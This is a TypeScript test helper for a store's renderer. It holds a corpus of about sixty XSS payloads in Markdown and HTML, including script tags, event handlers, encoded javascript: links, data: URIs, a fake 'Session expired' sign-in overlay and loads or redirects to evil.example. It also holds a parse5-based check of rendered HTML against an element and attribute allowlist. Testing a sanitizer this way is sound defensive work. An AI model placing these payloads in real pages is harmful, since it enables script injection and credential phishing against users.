// Hostile Markdown and HTML for every path that renders someone's text (docs/security.md, 'Text the
// store renders'), and a check of rendered HTML against the store's allowlist written out here on its
// own (not imported from the sanitizer), so a change to the allowlist is a change to this test too.
import { html as parse5Html, parseFragment, type DefaultTreeAdapterMap } from 'parse5';

/** The lesson text the outside attack saved: it must show as words, with no element of its own. */
export const attackLesson =
  'Lesson notes <kbd> <img/src=x onerror=alert(1)> <div/style="position:fixed;inset:0">Session expired: <a/href=//evil.example/login>sign in again';

/** The words a reader sees for `attackLesson`. */
export const attackLessonText =
  'Lesson notes <kbd> <img/src=x onerror=alert(1)> <div/style="position:fixed;inset:0">Session expired: <a/href=//evil.example/login>sign in again';

/** Known Markdown/HTML XSS shapes. */
export const xssCorpus: readonly string[] = [
  attackLesson,
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  'text <kbd>keys</kbd> then <img src=x onerror=alert(2)> and <code><svg onload=alert(3)>',
  'a <pre> b <script>alert(1)</script> c',
  '<svg><script>alert(1)</script></svg>',
  '<svg/onload=alert(1)>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<div style="position:fixed;inset:0;background:red">Session expired</div>',
  '<style>*{display:none}</style>',
  '<a href="javascript:alert(1)">click</a>',
  '[click](javascript:alert(1))',
  '[click](JaVaScRiPt:alert(1))',
  '[click](javas\tcript:alert(1))',
  '[click](java\u0000script:alert(1))',
  '[click](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))',
  '[click](&#x6A;avascript&colon;alert(1))',
  '[click](javascript&#58;alert(1))',
  '[click](%6Aavascript:alert(1))',
  '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '![pic](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '[click](vbscript:msgbox(1))',
  '[click](//evil.example/login)',
  '<javascript:alert(1)>',
  '<https://ok.example/" onmouseover="alert(1)>',
  '[ref link][evil]\n\n[evil]: javascript:alert(1) "title"',
  '[ref link][evil]\n\n[evil]: <javascript:alert(1)>',
  '![img][pic]\n\n[pic]: https://img.example/a.png "x\\" onerror=\\"alert(1)"',
  '![alt" onerror="alert(1)](https://img.example/a.png)',
  '![alt](https://img.example/a.png "title\\" onload=\\"alert(1)")',
  '[x](https://ok.example "t\\" onclick=\\"alert(1)")',
  '<a/href=//evil.example/login>sign in</a>',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<form action="https://evil.example"><button>Send</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<body onload=alert(1)>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<<script>script>alert(1)<</script>/script>',
  '<div><div><div><img src=x onerror=alert(1)',
  '**<img src=x onerror=alert(1)>**',
  '| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | <a href="javascript:alert(1)">x</a> |',
  '> <script>alert(1)</script>',
  '- [ ] <img src=x onerror=alert(1)>\n- [x] done',
  '```\n</code></pre><img src=x onerror=alert(1)>\n```',
  '`</code><img src=x onerror=alert(1)>`',
  '# Title <img src=x onerror=alert(1)>',
  '<table><tr><td background="javascript:alert(1)">x</td></tr></table>',
  '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
  '<a href="https://ok.example" target="_blank" style="color:red" class="btn" id="x">ok</a>',
  '<p onclick="alert(1)">para</p>',
  'https://ok.example/<img src=x onerror=alert(1)>',
  '[a](https://ok.example)<img src=x onerror=alert(1)>',
  '<xss onafterscriptexecute=alert(1)>x</xss>',
];

/** The allowlist: element → the attributes it may carry. */
const allowed: Record<string, readonly string[]> = {
  p: [],
  br: [],
  hr: [],
  h3: [],
  h4: [],
  h5: [],
  h6: [],
  strong: [],
  em: [],
  del: [],
  code: ['class'],
  pre: [],
  blockquote: [],
  ul: [],
  ol: ['start'],
  li: [],
  table: [],
  thead: [],
  tbody: [],
  tr: [],
  th: ['align'],
  td: ['align'],
  a: ['href', 'title', 'rel'],
  img: ['src', 'alt', 'title', 'loading'],
};

const valueRules: Record<string, RegExp> = {
  href: /^(https?:\/\/|mailto:)/,
  src: /^https:\/\//,
  class: /^language-[\w-]+$/,
  start: /^\d+$/,
  align: /^(left|center|right)$/,
  loading: /^lazy$/,
  rel: /^nofollow noopener noreferrer$/,
};

type Node = DefaultTreeAdapterMap['childNode'];
type Element = DefaultTreeAdapterMap['element'];

/** The elements of `html` parsed as a browser parses HTML put into a div (parse5: the HTML standard's parser). */
function elementsOf(html: string): Element[] {
  const found: Element[] = [];
  const visit = (nodes: readonly Node[]) => {
    for (const node of nodes) {
      if (!('tagName' in node)) continue;
      found.push(node);
      visit(node.childNodes);
      if (node.tagName === 'template') visit((node as DefaultTreeAdapterMap['template']).content.childNodes);
    }
  };
  const context = parseFragment('<div></div>').childNodes[0] as Element;
  visit(parseFragment(context, html, {}).childNodes);
  return found;
}

/**
 * Everything in `html` outside the allowlist: element names and `element[attribute=value]`; an empty
 * list when it all keeps to it.
 */
export function outsideAllowlist(html: string): string[] {
  const found: string[] = [];
  for (const element of elementsOf(html)) {
    const name = element.tagName;
    const attributes = allowed[name];
    if (!attributes || element.namespaceURI !== parse5Html.NS.HTML) {
      found.push(name);
      continue;
    }
    for (const attribute of element.attrs) {
      const rule = valueRules[attribute.name];
      if (!attributes.includes(attribute.name) || (rule && !rule.test(attribute.value))) {
        found.push(`${name}[${attribute.name}=${attribute.value}]`);
      }
    }
  }
  return found;
}

/** The names of the elements `html` parses to, in document order. */
export function elementNames(html: string): string[] {
  return elementsOf(html).map((element) => element.tagName);
}

/** The text a reader sees of `html`. */
export function shownText(html: string): string {
  const text = (nodes: readonly Node[]): string =>
    nodes
      .map((node) => {
        if (node.nodeName === '#text') return (node as DefaultTreeAdapterMap['textNode']).value;
        return 'childNodes' in node ? text(node.childNodes) : '';
      })
      .join('');
  const context = parseFragment('<div></div>').childNodes[0] as Element;
  return text(parseFragment(context, html, {}).childNodes);
}
